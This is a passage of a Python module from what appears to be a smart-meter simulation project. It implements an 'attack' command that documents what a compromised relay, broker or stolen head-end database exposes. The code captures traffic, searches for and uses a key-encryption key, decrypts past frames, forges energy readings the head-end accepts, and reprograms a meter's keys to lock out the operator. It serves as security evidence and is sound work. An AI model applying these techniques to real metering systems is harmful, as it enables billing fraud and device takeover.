"""``ami attack``: what a stolen key store, a relay or the broker give an attacker.

Runnable evidence for docs/security.md, in three sub-actions:

``ami attack capture --out FILE --duration S [--user relay-c0001 ...]``
    What a compromised relay or broker operator sees: subscribes to the PLC
    and WAN topics (as each ``--user``, with its password from
    DATA/bus/credentials.json, or anonymously) and writes every message as a
    msgpack record ``{"t", "u", "topic", "p"}``.  Reports how many frames it
    saw and shows they are ciphertext: nothing in them decodes.

``ami attack store --store DB --capture FILE [--kek FILE | --vault SPEC | --no-kek] [--host-dir DIR]``
    The stolen head-end database.  ``without_kek``: what the dump yields
    (topology, titles, wrapped blobs, readings in clear) and proof that no
    key is usable.  ``with_kek``: every key unwrapped (expired ones too),
    every session key ever transported recovered from the captured AARQs,
    every captured frame decrypted (no forward secrecy), a forged reading
    accepted by a ``HeadEndEngine`` loaded from the stolen store
    (impersonation) and a CCC key_transfer accepted by a ``Meter``
    (takeover).  ``--host-dir`` also searches the files lying beside the
    database (KEK file, factory key file).

``ami attack hsm --store DB --vault pkcs11:... --token-copy DIR [--capture FILE]``
    The same theft when the KEK lives in a PKCS#11 token: the database plus a
    copy of the token directory without the PIN yield nothing; with the PIN
    on the live host the KEK can be *used* (unwrap) but not read out.

The report never contains key material: counts, ids and verdicts only.
Add to ``ami/cli.py`` COMMANDS::

    "attack": ("ami.tools.attack", "attacker's view: capture traffic, break a stolen store, HSM case"),
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import secrets
import shutil
import sqlite3
import sys
import tempfile
import time
from collections import Counter, defaultdict
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import msgpack
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.keywrap import InvalidUnwrap, aes_key_unwrap, aes_key_wrap

from ami.protocol import topics
from ami.protocol.association import (
    InitiateRequest,
    build_aarq,
    decode_initiate_request,
    decode_initiate_response,
    encode_initiate_request,
    parse_aare,
    parse_aarq,
)
from ami.protocol.cipher import Suite0Cipher
from ami.protocol.errors import ProtocolError
from ami.protocol.frames import (
    GENERAL_DED_CIPHERING,
    GENERAL_GLO_CIPHERING,
    GLO_INITIATE_REQUEST,
    open_apdu,
    parse_apdu,
    seal_apdu,
)
from ami.protocol.keys import (
    KeyId,
    KeyType,
    SecretBytes,
    SecuritySetup,
    decode_key_transfer,
    encode_key_transfer,
    key_type_for,
)
from ami.protocol.messages import (
    Batch,
    GapFillReply,
    KeyTransfer,
    KeyTransferAck,
    Reading,
    decode_batch,
    decode_message,
    encode_batch,
    encode_message,
)
from ami.runtime.network import FACTORY_FILE, HEADEND_TITLE, TSP_TITLE

#: What a relay or broker operator would like to read: every PLC and WAN topic.
CAPTURE_FILTERS = ("ami/v1/plc/+/up/+", "ami/v1/plc/+/down/+", "ami/v1/wan/#")
AARQ_TAG, AARE_TAG = 0x60, 0x61
_TAG_LEN = 12


# ==========================================================================
# 1. capture: the relay's / broker's view
# ==========================================================================


def capture_filters(user: str | None) -> list[str]:
    """The broad filters, plus the PLC/WAN filters ``user`` is granted (a relay
    may not subscribe to ``plc/+/up/+``, only to its own segment)."""
    filters = list(CAPTURE_FILTERS)
    if user:
        from ami.security.bus_acl import permissions

        perms = permissions(user)
        for f in perms.subscribe if perms else ():
            if f.startswith(("ami/v1/plc/", "ami/v1/wan/")) and f not in filters:
                filters.append(f)
    return filters


async def capture(
    broker: str,
    data_dir: Path | None,
    out: Path,
    *,
    duration: float,
    users: Iterable[str | None] = (None,),
    stop: asyncio.Event | None = None,
    ready: Any = None,
) -> dict[str, Any]:
    """Record every PLC/WAN message ``users`` may read until ``duration`` or ``stop``."""
    from ami.runtime.bus import make_client

    stop = stop or asyncio.Event()
    users = list(users) or [None]
    out = Path(out)
    out.parent.mkdir(parents=True, exist_ok=True)
    granted: dict[str, dict[str, bool]] = {}
    subscribed = 0
    fh = open(out, "wb")

    async def one(user: str | None) -> None:
        nonlocal subscribed
        name = user or "anonymous"
        client = make_client(broker, user=user, data_dir=data_dir, identifier=f"ami-attack-{secrets.token_hex(4)}")
        async with client:
            granted[name] = {}
            for f in capture_filters(user):
                result = await client.subscribe(f, qos=1)
                codes = list(result) if isinstance(result, (list, tuple)) else [result]
                granted[name][f] = all(_granted(c) for c in codes)
            subscribed += 1
            if subscribed == len(users) and ready is not None:
                ready()
            async for message in client.messages:
                payload = message.payload
                if not isinstance(payload, (bytes, bytearray)):
                    payload = b"" if payload is None else str(payload).encode()
                fh.write(msgpack.packb({"t": time.time(), "u": name, "topic": message.topic.value,
                                        "p": bytes(payload)}, use_bin_type=True))
                fh.flush()

    tasks = [asyncio.create_task(one(u)) for u in users]
    stopper = asyncio.create_task(stop.wait())
    try:
        done, _ = await asyncio.wait({*tasks, stopper}, timeout=duration, return_when=asyncio.FIRST_COMPLETED)
        for t in done:
            if t is not stopper and t.exception() is not None:
                raise t.exception()
    finally:
        for t in (*tasks, stopper):
            t.cancel()
        await asyncio.gather(*tasks, stopper, return_exceptions=True)
        fh.close()
    summary = capture_summary(read_capture(out))
    summary["subscriptions"] = granted
    return summary


def _granted(code: Any) -> bool:
    """The SUBACK answer (amqtt refuses a forbidden filter with 0x80; Mosquitto
    grants it and filters each delivery instead, so there it reads True)."""
    value = getattr(code, "value", code)
    try:
        return int(value) < 0x80
    except (TypeError, ValueError):
        return not getattr(code, "is_failure", False)


def read_capture(path: Path | str) -> list[dict[str, Any]]:
    with open(path, "rb") as fh:
        return list(msgpack.Unpacker(fh, raw=False, strict_map_key=False))


def read_captures(paths: Iterable[Path | str]) -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = []
    for p in paths:
        records += read_capture(p)
    return sorted(records, key=lambda r: r["t"])


@dataclass(slots=True)
class Frame:
    """One APDU seen on the wire, with what the topic or batch says about it."""

    t: float
    direction: str  # "up" (meter -> head-end) or "down"
    concentrator: str
    meter: str
    data: bytes
    hop: str  # "plc" or "wan"


def frames_from_records(records: Iterable[dict[str, Any]]) -> tuple[list[Frame], Counter]:
    """Unpack PLC messages and WAN batches into frames, once each (a frame is
    seen twice by a broker operator: on the PLC and the WAN hop)."""
    stats: Counter = Counter()
    seen: set[tuple[str, str, bytes]] = set()
    frames: list[Frame] = []

    def add(t: float, direction: str, c: str, m: str, data: bytes, hop: str) -> None:
        key = (direction, m, data)
        if key in seen:
            stats["duplicate_frames"] += 1
            return
        seen.add(key)
        frames.append(Frame(t, direction, c, m, data, hop))

    for rec in sorted(records, key=lambda r: r["t"]):
        stats["messages"] += 1
        topic, payload, t = rec["topic"], bytes(rec["p"]), float(rec["t"])
        if (x := topics.parse_plc_up(topic)) is not None:
            add(t, "up", x[0], x[1], payload, "plc")
        elif (x := topics.parse_plc_down(topic)) is not None:
            add(t, "down", x[0], x[1], payload, "plc")
        elif (w := topics.parse_wan(topic)) is not None:
            try:
                batch = decode_batch(payload)
            except ProtocolError:
                stats["undecodable_batches"] += 1
                continue
            stats["batches"] += 1
            for label, apdu in batch.frames:
                add(t, w[1], batch.concentrator, label, bytes(apdu), "wan")
        else:
            stats["other_topics"] += 1
    return frames, stats


def kind_of(data: bytes) -> str:
    if data[:1] == bytes((AARQ_TAG,)):
        return "aarq"
    if data[:1] == bytes((AARE_TAG,)):
        try:
            return "aare" if parse_aare(data).accepted else "aare_rejected"
        except ProtocolError:
            return "malformed"
    try:
        tag = parse_apdu(data).tag
    except ProtocolError:
        return "malformed"
    return {GENERAL_DED_CIPHERING: "dc", GENERAL_GLO_CIPHERING: "db"}.get(tag, "apdu_other")


def _body_of(data: bytes) -> bytes | None:
    """The ciphertext of a frame (AARQ/AARE: of the InitiateRequest/Response inside)."""
    try:
        if data[:1] == bytes((AARQ_TAG,)):
            data = parse_aarq(data).initiate_apdu
        elif data[:1] == bytes((AARE_TAG,)):
            inner = parse_aare(data).initiate_apdu
            if inner is None:
                return None
            data = inner
        return parse_apdu(data).body[:-_TAG_LEN]
    except ProtocolError:
        return None


def _decodes_as_plaintext(body: bytes) -> bool:
    """Would this ciphertext, read as it is, decode as one of our messages?"""
    for decode in (decode_message, decode_initiate_request, decode_initiate_response):
        try:
            decode(body)
            return True
        except ProtocolError:
            continue
        except Exception:  # noqa: BLE001 - any decoder failure means "not plaintext"
            continue
    return False


def capture_summary(records: list[dict[str, Any]]) -> dict[str, Any]:
    frames, stats = frames_from_records(records)
    kinds = Counter(kind_of(f.data) for f in frames)
    bodies = [b for b in (_body_of(f.data) for f in frames) if b is not None]
    return {
        "messages": stats["messages"],
        "wan_batches": stats["batches"],
        "frames": len(frames),
        "frames_up": sum(1 for f in frames if f.direction == "up"),
        "frames_down": sum(1 for f in frames if f.direction == "down"),
        "duplicates_dropped": stats["duplicate_frames"],
        "by_kind": dict(sorted(kinds.items())),
        "ciphered_bodies": len(bodies),
        "bodies_decoding_as_plaintext": sum(1 for b in bodies if _decodes_as_plaintext(b)),
        "meters_seen": len({f.meter for f in frames}),
        "concentrators_seen": sorted({f.concentrator for f in frames}),
        "in_clear": "topics (meter ids), system titles, invocation counters, sizes, timing, "
        "rejected AAREs (unciphered by design)",
    }


# ==========================================================================
# 2. the attacker's key ring and traffic decryption
# ==========================================================================


@dataclass(eq=False, slots=True)
class Known:
    """A key the attacker holds, and where it came from."""

    key: bytes = field(repr=False)
    origin: str  # "store:v1:expired", "factory", "key_transfer", "aarq", "store:session", "blob"
    superseded: bool = False
    carrier: "Known | None" = None  # for a session key: the CC_LAN that transported it


class KeyRing:
    def __init__(self) -> None:
        self.glob: dict[str, dict[KeyType, list[Known]]] = defaultdict(lambda: defaultdict(list))
        self.sessions: dict[str, list[Known]] = defaultdict(list)
        self._seen: set[tuple[str, str, bytes]] = set()

    def add_global(self, meter: str, kt: KeyType, key: bytes, origin: str, superseded: bool = False) -> Known | None:
        ident = (meter, kt.value, bytes(key))
        if ident in self._seen:
            return None
        self._seen.add(ident)
        k = Known(bytes(key), origin, superseded)
        # Newest first: the current key is the one that opens most frames.
        self.glob[meter][kt].insert(0, k)
        return k

    def add_session(self, meter: str, key: bytes, origin: str, carrier: Known | None = None) -> Known:
        """Add a session key (or, if known already, fill in which CC_LAN carried it)."""
        for k in self.sessions[meter]:
            if k.key == bytes(key):
                if k.carrier is None:
                    k.carrier = carrier
                return k
        k = Known(bytes(key), origin, carrier=carrier)
        self.sessions[meter].insert(0, k)
        return k


class _Ciphers:
    def __init__(self) -> None:
        self._cache: dict[tuple[bytes, bytes], Suite0Cipher] = {}

    def get(self, enc: bytes, ak: bytes) -> Suite0Cipher:
        c = self._cache.get((enc, ak))
        if c is None:
            c = self._cache[(enc, ak)] = Suite0Cipher(enc, ak)
        return c


@dataclass(slots=True)
class Opened:
    kind: str
    key: Known
    message: Any = None
    session_key: bytes | None = field(default=None, repr=False)


@dataclass(slots=True)
class TrafficResult:
    frames: int
    kinds: Counter
    opened: dict[int, Opened]
    frame_list: list[Frame]
    readings: dict[tuple[str, int], tuple[int, int, int, int]]  # (meter, seq) -> (ts, e, p, u)
    readings_old_cc_lan: set[tuple[str, int]]
    keys_learned: int
    sessions_recovered: int
    kind_list: list[str]

    def summary(self) -> dict[str, Any]:
        opened_kinds = Counter(o.kind for o in self.opened.values())
        messages = Counter(type(o.message).__name__ for o in self.opened.values() if o.message is not None)
        dc = [i for i, k in enumerate(self.kind_list) if k == "dc"]
        reading_frames = sum(
            1 for o in self.opened.values() if isinstance(o.message, (Reading, GapFillReply))
        )
        return {
            "frames": self.frames,
            "frames_by_kind": dict(sorted(self.kinds.items())),
            "frames_decrypted": len(self.opened),
            "decrypted_by_kind": dict(sorted(opened_kinds.items())),
            "aarq_total": self.kinds.get("aarq", 0),
            "session_keys_recovered_from_aarqs": self.sessions_recovered,
            "dc_total": len(dc),
            "dc_decrypted": sum(1 for i in dc if i in self.opened),
            "dc_up_total": sum(1 for i in dc if self.frame_list[i].direction == "up"),
            "dc_up_decrypted": sum(1 for i in dc if i in self.opened and self.frame_list[i].direction == "up"),
            "messages": dict(sorted(messages.items())),
            "reading_frames_decrypted": reading_frames,
            "readings_decrypted": len(self.readings),
            "readings_under_superseded_cc_lan": len(self.readings_old_cc_lan),
            "keys_learned_from_key_transfers": self.keys_learned,
        }


def decrypt_traffic(frames: list[Frame], ring: KeyRing) -> TrafficResult:
    """Open every frame the ring allows, learning as it goes: session keys
    from AARQs (under CC_LAN), new global keys from key_transfers (under CCC).
    Repeats until a pass opens nothing new."""
    ciphers = _Ciphers()
    kinds_list = [kind_of(f.data) for f in frames]
    opened: dict[int, Opened] = {}
    keys_learned = 0
    transported: set[tuple[str, bytes]] = set()
    progress = True
    while progress:
        progress = False
        for i, f in enumerate(frames):
            if i in opened:
                continue
            result = _try_open(f, kinds_list[i], ring, ciphers)
            if result is None:
                continue
            opened[i] = result
            progress = True
            if result.kind == "aarq" and result.session_key is not None:
                ring.add_session(f.meter, result.session_key, "aarq", carrier=result.key)
                transported.add((f.meter, result.session_key))
            elif isinstance(result.message, KeyTransfer):
                keys_learned += _learn_transfer(f.meter, result.message, ring)
    readings: dict[tuple[str, int], tuple[int, int, int, int]] = {}
    old: set[tuple[str, int]] = set()
    for i, o in opened.items():
        items: list[Reading] = []
        if isinstance(o.message, Reading):
            items = [o.message]
        elif isinstance(o.message, GapFillReply):
            items = list(o.message.readings)
        for r in items:
            ident = (frames[i].meter, r.seq)
            readings[ident] = (r.ts, r.energy_wh, r.power_w, r.voltage_dv)
            if o.key.carrier is not None and o.key.carrier.superseded:
                old.add(ident)
    return TrafficResult(len(frames), Counter(kinds_list), opened, frames, readings, old, keys_learned,
                         len(transported), kinds_list)


def _learn_transfer(meter: str, msg: KeyTransfer, ring: KeyRing) -> int:
    learned = 0
    for ccc in list(ring.glob[meter][KeyType.CCC]):
        try:
            items = decode_key_transfer(ccc.key, msg.param)
            setup = SecuritySetup(msg.setup)
        except (ProtocolError, ValueError):
            continue
        for key_id, key in items:
            try:
                kt = key_type_for(setup, key_id)
            except ProtocolError:
                continue
            for k in ring.glob[meter][kt]:
                if k.origin in ("factory", "key_transfer"):
                    k.superseded = True  # replaced by the key being transferred
            if ring.add_global(meter, kt, key, "key_transfer") is not None:
                learned += 1
        break
    return learned


def _open_global(g: dict, apdu, ciphers: _Ciphers, title: bytes | None = None):
    """(CC_LAN entry, plaintext) for the first CC_LAN x AK pair that verifies, else None."""
    for cc in g[KeyType.CC_LAN]:
        for ak in g[KeyType.AK]:
            try:
                return cc, open_apdu(ciphers.get(cc.key, ak.key), apdu, title)
            except ProtocolError:
                continue
    return None


def _try_open(f: Frame, kind: str, ring: KeyRing, ciphers: _Ciphers) -> Opened | None:
    g = ring.glob.get(f.meter)
    try:
        if kind == "aarq":
            if not g:
                return None
            aarq = parse_aarq(f.data)
            found = _open_global(g, parse_apdu(aarq.initiate_apdu), ciphers, aarq.calling_title)
            if found is None:
                return None
            req = decode_initiate_request(found[1])
            return Opened("aarq", found[0], req, bytes(req.dedicated_key) if req.dedicated_key else None)
        if kind == "aare":
            if not g:
                return None
            aare = parse_aare(f.data)
            found = _open_global(g, parse_apdu(aare.initiate_apdu), ciphers, aare.responding_title)
            return None if found is None else Opened("aare", found[0], decode_initiate_response(found[1]))
        if kind == "db":
            if not g:
                return None
            found = _open_global(g, parse_apdu(f.data), ciphers)
            return None if found is None else Opened("db", found[0], decode_message(found[1]))
        if kind == "dc":
            sessions = ring.sessions.get(f.meter)
            if not sessions or not g:
                return None
            apdu = parse_apdu(f.data)
            for s in sessions:
                for ak in g[KeyType.AK]:
                    try:
                        plain = open_apdu(ciphers.get(s.key, ak.key), apdu)
                    except ProtocolError:
                        continue
                    return Opened("dc", s, decode_message(plain))
            return None
    except ProtocolError:
        return None
    return None


def keystream_probe(frames: list[Frame], candidates: dict[str, list[bytes]]) -> dict[str, int]:
    """Confidentiality without the tag: XOR each frame's ciphertext with the
    GCM keystream of every candidate key (AK not needed) and see whether the
    result decodes as one of our messages."""
    tried = hits = 0
    for f in frames:
        cands = candidates.get(f.meter)
        if not cands:
            continue
        try:
            if f.data[:1] == bytes((AARQ_TAG,)):
                aarq = parse_aarq(f.data)
                apdu, title = parse_apdu(aarq.initiate_apdu), aarq.calling_title
            elif f.data[:1] == bytes((AARE_TAG,)):
                aare = parse_aare(f.data)
                if aare.initiate_apdu is None:
                    continue
                apdu, title = parse_apdu(aare.initiate_apdu), aare.responding_title
            else:
                apdu = parse_apdu(f.data)
                title = apdu.system_title
        except ProtocolError:
            continue
        if title is None:
            continue
        iv = title + apdu.invocation_counter.to_bytes(4, "big")
        body = apdu.body[:-_TAG_LEN]
        for key in cands:
            tried += 1
            plain = AESGCM(key).encrypt(iv, body, None)[: len(body)]
            if _decodes_as_plaintext(plain):
                hits += 1
    return {"attempts": tried, "decodable": hits}


# ==========================================================================
# 3. the stolen store
# ==========================================================================


@dataclass(slots=True)
class Dump:
    """What a copy of the head-end database holds, read with plain sqlite3."""

    path: Path
    meters: list[tuple[str, bytes, str, int | None]]  # meter, title, concentrator, high_seq
    keys: list[tuple[str, str, int, str, bytes, float, int, int]]  # meter, type, version, state, wrapped, created, tx, rx
    # meter, serial, wrapped, created, tx, rx, frames, pending (1: offered in an AARQ, not yet confirmed)
    sessions: list[tuple[str, int, bytes, float, int, int, int, int]]
    readings: int
    readings_per_meter: dict[str, int]
    sample_readings: list[tuple]
    last_reading: dict[str, tuple[int, int, int, int, int]]  # meter -> seq, ts, e, p, u
    raw: bytes = field(repr=False)  # the file bytes (db + wal), as stolen

    @property
    def blobs(self) -> list[bytes]:
        return [k[4] for k in self.keys] + [s[2] for s in self.sessions]


def steal(db_path: Path, dest: Path) -> Path:
    """Copy the database as a thief would (main file, WAL and shared memory)."""
    db_path = Path(db_path)
    dest.mkdir(parents=True, exist_ok=True)
    for suffix in ("", "-wal", "-shm"):
        src = Path(str(db_path) + suffix)
        if src.exists():
            shutil.copyfile(src, dest / (db_path.name + suffix))
    return dest / db_path.name


def read_dump(copy: Path) -> Dump:
    raw = b"".join(Path(str(copy) + s).read_bytes() for s in ("", "-wal") if Path(str(copy) + s).exists())
    db = sqlite3.connect(copy)
    try:
        meters = [(m, bytes(t), c, h) for m, t, c, h in
                  db.execute("SELECT meter, system_title, concentrator, high_seq FROM meters ORDER BY meter")]
        keys = [(m, kt, v, st, bytes(w), cr, tx, rx) for m, kt, v, st, w, cr, tx, rx in db.execute(
            "SELECT meter, key_type, version, state, wrapped, created, tx_mark, rx_lowest FROM keys "
            "ORDER BY meter, key_type, version")]
        columns = {row[1] for row in db.execute("PRAGMA table_info(sessions)")}
        pending = "pending" if "pending" in columns else "0"
        sessions = [(m, se, bytes(w), cr, tx, rx, fr, int(p)) for m, se, w, cr, tx, rx, fr, p in db.execute(
            f"SELECT meter, serial, wrapped, created, tx_mark, rx_lowest, frames, {pending} FROM sessions "
            "ORDER BY meter, serial")]
        per_meter = dict(db.execute("SELECT meter, COUNT(*) FROM readings GROUP BY meter"))
        sample = list(db.execute(
            "SELECT meter, seq, ts, energy_wh, power_w, voltage_dv FROM readings ORDER BY meter, seq LIMIT 3"))
        last = {m: (s, ts, e, p, u) for m, s, ts, e, p, u in db.execute(
            "SELECT meter, seq, ts, energy_wh, power_w, voltage_dv FROM readings r WHERE seq = "
            "(SELECT MAX(seq) FROM readings WHERE meter = r.meter)")}
    finally:
        db.close()
    return Dump(Path(copy), meters, keys, sessions, sum(per_meter.values()), per_meter, sample, last, raw)


def kek_search(data: bytes, blob: bytes) -> dict[str, int]:
    """Try every 16-byte window of ``data`` as the KEK of ``blob``."""
    windows = {data[i : i + 16] for i in range(max(0, len(data) - 15))}
    hits = 0
    for w in windows:
        try:
            aes_key_unwrap(w, blob)
            hits += 1
        except InvalidUnwrap:
            pass
    return {"bytes_searched": len(data), "distinct_windows_tried": len(windows), "hits": hits}


def without_kek(dump: Dump, frames: list[Frame]) -> dict[str, Any]:
    """Everything a copy of the database gives on its own."""
    states = Counter((k[1], k[3]) for k in dump.keys)
    blobs = dump.blobs
    # Every wrapped blob, used raw (both 16-byte halves), as every kind of key.
    ring = KeyRing()
    cands: dict[str, list[bytes]] = defaultdict(list)
    for row in dump.keys:
        for half in (row[4][:16], row[4][-16:]):
            cands[row[0]].append(half)
    for row in dump.sessions:
        for half in (row[2][:16], row[2][-16:]):
            cands[row[0]].append(half)
    for meter, halves in cands.items():
        for h in halves:
            for kt in (KeyType.CC_LAN, KeyType.AK, KeyType.CCC):
                ring.add_global(meter, kt, h, "blob")
            ring.add_session(meter, h, "blob")
    traffic = decrypt_traffic(frames, ring)
    probe = keystream_probe(frames, cands)
    search = kek_search(dump.raw, blobs[0]) if blobs else {"hits": 0}
    return {
        "meters": len(dump.meters),
        "system_titles": len({m[1] for m in dump.meters}),
        "concentrators": len({m[2] for m in dump.meters}),
        "topology_in_clear": True,
        "key_rows": len(dump.keys),
        "key_rows_by_type_state": {f"{kt}/{st}": n for (kt, st), n in sorted(states.items())},
        "expired_key_rows": sum(1 for k in dump.keys if k[3] == "expired"),
        "session_rows": len(dump.sessions),
        "wrapped_blobs": len(blobs),
        "readings_in_clear": dump.readings,
        "sample_readings_in_clear": [list(r) for r in dump.sample_readings],
        "kek_in_dump": search,
        "blobs_as_keys": {
            "candidate_keys": sum(len(v) for v in cands.values()),
            "tag_verified_frames": len(traffic.opened),
            "keystream_attempts": probe["attempts"],
            "keystream_decodable": probe["decodable"],
        },
        "keys_usable": len(blobs) if search["hits"] else 0,
        "frames_decrypted": len(traffic.opened) + probe["decodable"],
    }


class RawKekVault:
    """A stolen file KEK used as a vault (no file-mode checks: it is a copy)."""

    name = "stolen-kek"

    def __init__(self, kek: bytes) -> None:
        if len(kek) != 16:
            raise ValueError("a KEK file holds 16 bytes")
        self._kek = bytes(kek)

    def wrap(self, key: bytes) -> bytes:
        return aes_key_wrap(self._kek, bytes(key))

    def unwrap(self, wrapped: bytes) -> bytes:
        return aes_key_unwrap(self._kek, bytes(wrapped))

    def unwrap_many(self, wrapped: list[bytes]) -> list[bytes]:
        return [self.unwrap(w) for w in wrapped]

    def close(self) -> None:
        pass

    def __repr__(self) -> str:
        return "<RawKekVault>"


@dataclass(slots=True)
class Unwrapped:
    """Every key of the dump in clear: (meter, type, version) -> (state, key)."""

    keys: dict[tuple[str, KeyType, int], tuple[str, SecretBytes]]
    sessions: list[tuple[str, bool, SecretBytes]]  # meter, pending, key
    failures: int

    def ring(self) -> KeyRing:
        ring = KeyRing()
        # Oldest version first, so the newest ends up first in the ring.
        for (meter, kt, version), (state, key) in sorted(self.keys.items(), key=lambda x: x[0][2]):
            ring.add_global(meter, kt, key, f"store:v{version}:{state}", superseded=state == "expired")
        for meter, pending, key in self.sessions:
            ring.add_session(meter, key, "store:pending-session" if pending else "store:session")
        return ring

    def session(self, meter: str) -> SecretBytes | None:
        """The confirmed session of ``meter`` (else the one offered in an AARQ)."""
        rows = sorted((pending, i) for i, (m, pending, _k) in enumerate(self.sessions) if m == meter)
        return self.sessions[rows[0][1]][2] if rows else None

    def active(self, meter: str, kt: KeyType) -> SecretBytes:
        rows = [(v, k) for (m, t, v), (st, k) in self.keys.items() if m == meter and t is kt and st == "active"]
        return max(rows)[1]


def unwrap_dump(dump: Dump, vault: Any) -> Unwrapped:
    blobs = [k[4] for k in dump.keys] + [s[2] for s in dump.sessions]
    clear = vault.unwrap_many(blobs)
    keys = {(k[0], KeyType(k[1]), k[2]): (k[3], SecretBytes(clear[i])) for i, k in enumerate(dump.keys)}
    off = len(dump.keys)
    sessions = [(s[0], bool(s[7]), SecretBytes(clear[off + i])) for i, s in enumerate(dump.sessions)]
    return Unwrapped(keys, sessions, 0)


def headend_title_from(frames: list[Frame]) -> bytes:
    """The head-end's system title, as every captured AARQ names it."""
    for f in frames:
        if f.data[:1] == bytes((AARQ_TAG,)):
            try:
                return parse_aarq(f.data).calling_title
            except ProtocolError:
                continue
    return HEADEND_TITLE


def max_ic_seen(frames: list[Frame]) -> dict[str, int]:
    out: dict[str, int] = {}
    for f in frames:
        if f.direction != "up":
            continue
        try:
            apdu = parse_apdu(f.data)
        except ProtocolError:
            continue
        if apdu.tag == GENERAL_DED_CIPHERING:
            out[f.meter] = max(out.get(f.meter, -1), apdu.invocation_counter)
    return out


async def forge_readings(dump: Dump, vault: Any, keys: Unwrapped, headend_title: bytes,
                         ic_seen: dict[str, int], now: float | None = None) -> dict[str, Any]:
    """Impersonate every meter that has a session: seal a reading under its
    current session (IC above anything seen) and feed it to a head-end engine
    loaded, like the real one at start-up, from the stolen store."""
    from ami.machines.headend import HeadEndEngine, Policy
    from headend.store import SqliteStore

    now = time.time() if now is None else now
    with tempfile.TemporaryDirectory(prefix="ami-forge-") as tmp:
        copy = steal(dump.path, Path(tmp))
        store = SqliteStore(copy, vault)
        await store.open()
        try:
            snapshot = await store.load()
        finally:
            await store.close()
    engine = HeadEndEngine(headend_title, Policy(), lambda: secrets.token_bytes(16))
    engine.load(snapshot, now)
    sessions: dict[str, tuple] = {}
    for row in sorted(dump.sessions, key=lambda r: -r[7]):  # the confirmed one wins
        sessions[row[0]] = row
    meters = {m[0]: m for m in dump.meters}
    per_segment: dict[str, list[tuple[str, bytes]]] = defaultdict(list)
    forged: dict[str, tuple] = {}
    for meter, row in sessions.items():
        _m, title, concentrator, high = meters[meter]
        last = dump.last_reading.get(meter)
        seq = (high if high is not None else -1) + 1
        ts = (last[1] + 1800) if last else int(now)
        energy = (last[2] // 2) if last else 0  # a halved index, stored as genuine
        reading = Reading(seq, ts, energy, 0, 2300)
        ic = max(row[5], ic_seen.get(meter, -1) + 1)
        ak = keys.active(meter, KeyType.AK)
        frame = seal_apdu(Suite0Cipher(keys.session(meter), ak), GENERAL_DED_CIPHERING, title, ic,
                          encode_message(reading))
        per_segment[concentrator].append((meter, frame))
        forged[meter] = (seq, ts, energy)
    before = Counter(engine.counters)
    for n, (concentrator, items) in enumerate(sorted(per_segment.items())):
        engine.handle_batch(encode_batch(Batch(concentrator, 1_000_000 + n, tuple(items))), now, concentrator)
    effects = engine.drain()
    stored = {(r[0], r[1]) for r in effects.commit.readings}
    return {
        "meters_with_session": len(sessions),
        "forged_frames": sum(len(v) for v in per_segment.values()),
        "frames_accepted": engine.counters["frames_accepted"] - before["frames_accepted"],
        "readings_stored": engine.counters["readings_stored"] - before["readings_stored"],
        "forged_readings_in_commit": sum(1 for m, (seq, _ts, _e) in forged.items() if (m, seq) in stored),
        "frames_rejected": engine.counters["frames_rejected"] - before["frames_rejected"],
        "note": "energy index halved in every forged reading",
    }


def attacker_aarq(cc_lan: bytes, ak: bytes, headend_title: bytes, ic: int, session_key: bytes) -> bytes:
    initiate = encode_initiate_request(InitiateRequest(dedicated_key=session_key))
    apdu = seal_apdu(Suite0Cipher(cc_lan, ak), GLO_INITIATE_REQUEST, headend_title, ic, initiate)
    return build_aarq(headend_title, apdu)


def take_over(victim: Any, *, ccc: bytes, ak: bytes, cc_lan: bytes, headend_title: bytes, ic: int,
              now: float = 0.0) -> dict[str, Any]:
    """Associate with ``victim`` (a ``ami.machines.meter.Meter``) under the CC_LAN from
    the store and reprogram its CC_LAN under its CCC with the attacker's key."""
    if not victim.powered:
        victim.boot(now)
    session_key = secrets.token_bytes(16)
    out = victim.on_downlink(attacker_aarq(cc_lan, ak, headend_title, ic, session_key), now)
    aare = parse_aare(out.uplink[-1]) if out.uplink else None
    result: dict[str, Any] = {"aarq_accepted": bool(aare and aare.accepted)}
    if not result["aarq_accepted"]:
        result["rejected"] = list(out.rejected)
        return result
    mine = secrets.token_bytes(16)
    param = encode_key_transfer(ccc, [(KeyId.GLOBAL_UNICAST, mine)])
    session = Suite0Cipher(session_key, ak)
    frame = seal_apdu(session, GENERAL_DED_CIPHERING, headend_title, 0,
                      encode_message(KeyTransfer(0x7FFF_0001, "lan", param)))
    out = victim.on_downlink(frame, now + 1)
    acks = []
    for up in out.uplink:
        try:
            msg = decode_message(open_apdu(session, parse_apdu(up)))
        except ProtocolError:
            continue
        if isinstance(msg, KeyTransferAck):
            acks.append(msg)
    result["key_transfer_acked"] = any(a.ok for a in acks)
    result["meter_cc_lan_is_attackers"] = bytes(victim.keys.cc_lan) == mine
    # The legitimate head-end, with the CC_LAN it still holds, is now locked out...
    out = victim.on_downlink(attacker_aarq(cc_lan, ak, headend_title, ic + 1, secrets.token_bytes(16)), now + 2)
    legit = parse_aare(out.uplink[-1]) if out.uplink else None
    result["headend_locked_out"] = bool(legit and not legit.accepted)
    # ...while the attacker associates at will under its own CC_LAN.
    out = victim.on_downlink(attacker_aarq(mine, ak, headend_title, 0, secrets.token_bytes(16)), now + 3)
    again = parse_aare(out.uplink[-1]) if out.uplink else None
    result["attacker_reassociates"] = bool(again and again.accepted)
    return result


def meter_from_store(dump: Dump, keys: Unwrapped, meter: str, headend_title: bytes) -> tuple[Any, int]:
    """A meter model holding the keys the store says it holds (the attacker's
    belief), with the strictest receive counter compatible with the store:
    it has seen every CC_LAN counter value the head-end ever reserved."""
    from ami.machines.meter import LAN_RECV, Meter, MeterConfig, MeterKeys

    row = next(m for m in dump.meters if m[0] == meter)
    tx = max(k[6] for k in dump.keys if k[0] == meter and k[1] == "cc_lan" and k[3] == "active")
    mk = MeterKeys(*(SecretBytes(keys.active(meter, kt)) for kt in
                     (KeyType.CCC, KeyType.AK, KeyType.CC_LAN, KeyType.CC_LOCALE)))
    victim = Meter(meter, row[1], mk, MeterConfig(headend_title, TSP_TITLE), concentrator=row[2],
                   marks={LAN_RECV: tx})
    return victim, tx


def takeover_all(dump: Dump, keys: Unwrapped, headend_title: bytes) -> dict[str, Any]:
    results = []
    for meter, *_ in dump.meters:
        victim, ic = meter_from_store(dump, keys, meter, headend_title)
        results.append(take_over(
